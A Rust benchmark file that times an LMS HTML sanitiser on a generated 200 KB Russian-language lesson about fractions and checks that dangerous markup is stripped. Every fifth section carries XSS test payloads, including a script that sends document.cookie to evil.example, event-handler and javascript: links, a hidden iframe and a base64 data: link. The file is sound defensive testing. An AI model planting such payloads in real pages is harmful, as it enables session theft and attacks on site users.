//! Sanitising a long lesson: [`RichText::sanitize`] over about 200 KB of
//! lesson HTML, such as a teacher pasting a whole chapter from another site:
//! headings, paragraphs with inline formatting and links, bullet and
//! numbered lists, images, code blocks, quotes, tables (not in the
//! allow-list: their text stays, the markup goes) and, in every fifth
//! section, hostile markup (scripts, event handlers, `javascript:` links,
//! styles, iframes, comments). This is the work done when a lesson,
//! assignment or quiz text is saved.
//!
//! Run with `cargo bench -p lms-core --bench sanitize`
//! (add `-- --quick` for a faster, rougher figure).

use std::fmt::Write as _;
use std::hint::black_box;
use std::time::Duration;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use lms_core::richtext::RichText;

/// Size of the generated lesson.
const LESSON_BYTES: usize = 200 * 1024;

/// One section of the lesson; `n` varies the text and links.
fn section(out: &mut String, n: usize) {
    let _ = write!(
        out,
        r#"<h2 class="ql-align-center">Раздел {n}. Дроби и проценты</h2>
<p>Дробь показывает, какая часть целого взята. В задаче {n} из учебника
<strong>важно</strong> сначала привести дроби к <em>общему знаменателю</em>,
а затем <u>сложить</u> числители. Подробнее — в
<a href="https://school.example/lessons/{n}" target="_blank">разборе урока</a>
и в <a href="/lessons/{n}/notes">конспекте</a>. Вопросы пишите на
<a href="mailto:teacher@school.example">почту учителя</a>.</p>
<ul>
<li data-list="bullet">Числитель — сколько частей взяли;</li>
<li data-list="bullet">знаменатель — на сколько частей разделили;</li>
<li data-list="bullet" class="ql-indent-1">дробь <s>нельзя</s> можно сокращать.</li>
</ul>
<ol>
<li data-list="ordered">Найдите НОК знаменателей.</li>
<li data-list="ordered">Домножьте числители.</li>
<li data-list="ordered">Сложите и сократите результат.</li>
</ol>
<p><img src="https://cdn.school.example/lessons/{n}/figure.png" alt="Рисунок {n}" width="640" height="360"></p>
<table class="grid" border="1">
<thead><tr><th>Дробь</th><th>Десятичная</th><th>Проценты</th></tr></thead>
<tbody>
<tr><td>1/2</td><td>0,5</td><td>50 %</td></tr>
<tr><td>1/4</td><td>0,25</td><td>25 %</td></tr>
<tr><td>{n}/100</td><td>0,{n:02}</td><td>{n} %</td></tr>
</tbody>
</table>
<pre data-language="python"><code>def to_percent(numerator, denominator):
    return round(numerator / denominator * 100, {n})
</code></pre>
<blockquote class="ql-indent-2">Математику уже затем учить следует, что она ум в порядок приводит.</blockquote>
<p><span style="font-size: 14px">Домашнее задание: № {n}, стр. {n}.</span><br></p>
"#
    );
    if n.is_multiple_of(5) {
        let _ = write!(
            out,
            r#"<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>
<p onclick="alert({n})" style="position:fixed;top:0">Нажмите <a href="javascript:alert({n})">сюда</a>,
чтобы получить <img src="x" onerror="alert({n})">бонус.</p>
<style>body {{ display: none }}</style>
<iframe src="https://evil.example/frame/{n}" width="1" height="1"></iframe>
<!-- скопировано из редактора {n} -->
<svg><script>alert({n})</script></svg>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">открыть</a>
"#
        );
    }
}

/// About [`LESSON_BYTES`] of lesson HTML.
fn lesson() -> String {
    let mut html = String::with_capacity(LESSON_BYTES + 4096);
    let mut n = 1;
    while html.len() < LESSON_BYTES {
        section(&mut html, n);
        n += 1;
    }
    html
}

fn bench_sanitize(c: &mut Criterion) {
    let html = lesson();
    let clean = RichText::sanitize(&html);
    for hostile in [
        "<script",
        "onerror",
        "onclick",
        "javascript:",
        "<iframe",
        "<style",
    ] {
        assert!(!clean.as_html().contains(hostile), "{hostile} survived");
    }
    assert!(clean.as_html().contains("<img"), "images are kept");

    let mut group = c.benchmark_group("richtext");
    group.throughput(Throughput::Bytes(html.len() as u64));
    group.bench_function("sanitize_200kb_lesson", |b| {
        b.iter(|| RichText::sanitize(black_box(&html)));
    });
    group.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default()
        .sample_size(20)
        .warm_up_time(Duration::from_secs(1))
        .measurement_time(Duration::from_secs(3));
    targets = bench_sanitize
}
criterion_main!(benches);
